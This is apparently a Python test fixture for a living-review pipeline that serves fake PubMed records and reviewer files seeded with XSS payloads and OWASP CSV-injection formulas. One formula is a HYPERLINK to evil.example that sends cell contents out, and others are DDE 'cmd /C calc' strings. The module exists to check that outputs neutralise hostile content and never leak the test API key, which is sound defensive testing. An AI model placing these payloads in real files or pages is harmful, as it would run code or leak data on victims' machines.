"""A hostile live-mode copy of the demo review, shared by test_hostile.py and test_crash.py.

The project is the shipped demo (workflow, config, resources/demo) with:

* ``search.mode: live`` against :mod:`fake_eutils` on 127.0.0.1 serving
  :data:`N_NEW` new PubMed records since the demo's last snapshot, and
  ``NCBI_API_KEY`` set to :data:`SECRET` in the environment of every run;
* hostile text where the review takes text from outside: record titles,
  abstracts, journals and authors from PubMed (:class:`HostileEutils`), a
  reviewer's notes, a study's citation (both extractors, so it is agreed and
  reaches the report), a country one extractor typed as a formula
  (a discrepancy) and a resolution note.

One clean run (``livingreview update``, the cron entry point) is made once per
test session (:func:`clean_run`) and serves as the hostile-content subject of
test_hostile and as the reference of test_crash, so the suite pays for one
full run instead of two.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import yaml
from fake_eutils import SMALL_TEMPLATE_FILES, FakeEutils, make_corpus
from lxml import etree

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO.parent / "shared" / "fixtures" / "pubmed"
ROOT = "resources/demo"
SECRET = "lrTEST0api0key0c0ffee5ec7e7da7a"  # NCBI keys are 36 hex chars; this one is unique text
FIRST_PMID = 91_000_000
N_NEW = 8
CANARY = "PWNED"  # a script from content that ran would set document.title to this
SCRIPT = f"<script>document.title='{CANARY}'</script>"
ONERROR = f"<img src=x onerror=\"document.title='{CANARY}'\">"
JS_URL = f"<a href=\"javascript:document.title='{CANARY}'\">click</a>"
#: Record fields from PubMed, one per formula prefix of the OWASP CSV-injection list.
TITLES = [
    f'=HYPERLINK("http://evil.example/?x="&A1,"{SCRIPT}")',
    "+cmd|' /C calc'!A0 trial",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab-led title",
    "\r=1+1 carriage-return-led title",
    f"Ordinary title with {ONERROR} and {JS_URL}",
    f"Ordinary title {SCRIPT}",
]
ABSTRACT = f"=1+1 abstract {SCRIPT} {ONERROR} {JS_URL}"
JOURNAL = "@Journal of =Formulas"
AUTHOR = "-Minus"
CITATION = f"Wang et al. (2019) {SCRIPT}{ONERROR} {JS_URL}"
#: A citation matplotlib would read as mathtext (an unknown command raised in the RoB figure).
MATH_CITATION = r"Kumar $\notacommand$ {x} \ (2020)"
NOTE = f'=HYPERLINK("http://evil.example","note") {SCRIPT}'
COUNTRY = "=cmd|' /C calc'!A0"
RESOLUTION_NOTE = "@SUM(A1:A9) agreed"


class HostileEutils(FakeEutils):
    """The fake server, with hostile titles, abstracts, journals and authors."""

    def article_xml(self, rec) -> bytes:  # type: ignore[no-untyped-def]
        art = etree.fromstring(super().article_xml(rec))
        i = (rec.pmid - FIRST_PMID) % len(TITLES)
        article = art.find("MedlineCitation/Article")
        title = article.find("ArticleTitle")
        for child in list(title):
            title.remove(child)
        title.text = TITLES[i]
        abstract = article.find("Abstract")
        if abstract is None:
            abstract = etree.SubElement(article, "Abstract")
        for child in list(abstract):
            abstract.remove(child)
        etree.SubElement(abstract, "AbstractText").text = ABSTRACT
        journal = article.find("Journal/Title")
        if journal is not None:
            journal.text = JOURNAL
        last = article.find("AuthorList/Author/LastName")
        if last is not None:
            last.text = AUTHOR
        art.tail = "\n"
        return etree.tostring(art, encoding="utf-8")


_SERVER: HostileEutils | None = None


def server() -> HostileEutils:
    """The fake E-utilities (started once per process; the same records for every run)."""
    global _SERVER
    if _SERVER is None:
        corpus = make_corpus(N_NEW, dt.date(2026, 11, 3), dt.date(2026, 11, 18), FIRST_PMID)
        _SERVER = HostileEutils(FIXTURES, corpus, template_files=SMALL_TEMPLATE_FILES).start()
    return _SERVER


def _rewrite_csv(path: Path, edit) -> None:  # type: ignore[no-untyped-def]
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
        fields = list(rows[0])
    for row in rows:
        edit(row)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def make_project(dest: Path) -> Path:
    """A fresh, never-run hostile live-mode project in ``dest``."""
    dest.mkdir(parents=True, exist_ok=True)
    for name in ("Snakefile", "workflow", "config", "scripts", "profiles"):
        src = REPO / name
        (shutil.copytree if src.is_dir() else shutil.copy2)(src, dest / name)
    shutil.copytree(REPO / ROOT, dest / ROOT)
    root = dest / ROOT
    cfg_path = dest / "config" / "config.yaml"
    cfg = yaml.safe_load(cfg_path.read_text(encoding="utf-8"))
    cfg["search"].update(mode="live", eutils_url=server().base_url, max_retries=2, timeout_s=20)
    cfg_path.write_text(yaml.safe_dump(cfg, sort_keys=False), encoding="utf-8")
    # Reviewers disagree on the hostile records (-> conflicts.csv) and write hostile notes.
    pmids = [str(FIRST_PMID + i) for i in range(N_NEW)]
    head = "record_id,decision,reason,note,date\n"
    ta = root / "screening" / "title_abstract"
    with open(ta / "alice-hostile.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        fh.write(head)
        for p in pmids[:4]:
            w.writerow([p, "include", "", NOTE, "2026-11-21"])
    with open(ta / "bob-hostile.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        fh.write(head)
        for p in pmids[:4]:
            w.writerow([p, "exclude", "", NOTE, "2026-11-21"])
    # The citation both extractors agree on; a country only dave typed (as a formula).
    for who in ("carol", "dave"):

        def edit(row: dict[str, str], who: str = who) -> None:
            if row["study_id"] == "wang2019":
                row["citation"] = CITATION
                if who == "dave":
                    row["country"] = COUNTRY
            if row["study_id"] == "kumar2020":
                row["citation"] = MATH_CITATION

        _rewrite_csv(root / "extraction" / "studies" / f"{who}.csv", edit)
    _rewrite_csv(
        root / "extraction" / "resolutions.csv",
        lambda row: row.update(note=RESOLUTION_NOTE) if row["key"] == "kumar2020" else None,
    )
    return dest


def env() -> dict[str, str]:
    """The environment of every run: the API key is set (and must never be written anywhere)."""
    return dict(os.environ, NCBI_API_KEY=SECRET, PYTHONHASHSEED="0")


def update_cmd(project: Path) -> list[str]:
    exe = REPO / ".venv" / "bin" / "livingreview"
    base = [str(exe)] if exe.exists() else [sys.executable, "-m", "livingreview.cli"]
    return [*base, "update", "--directory", str(project), "--cores", "2", "--quiet"]


@dataclass
class Run:
    project: Path
    returncode: int
    output: str
    seconds: float


_CLEAN: Run | None = None


def clean_run(base: Path) -> Run:
    """One uninterrupted ``livingreview update`` of a fresh project (cached per session).

    ``base`` is a folder that outlives the calling test (a tmp_path_factory dir);
    the project is ``base/clean`` and a pristine copy stays in ``base/pristine``.
    """
    global _CLEAN
    if _CLEAN is None:
        pristine = make_project(base / "pristine")
        project = base / "clean"
        shutil.copytree(pristine, project, symlinks=True)
        start = time.monotonic()
        proc = subprocess.run(
            update_cmd(project), env=env(), capture_output=True, text=True, timeout=1200
        )
        _CLEAN = Run(project, proc.returncode, proc.stdout + proc.stderr, time.monotonic() - start)
        assert proc.returncode == 0, _CLEAN.output[-4000:]
    return _CLEAN
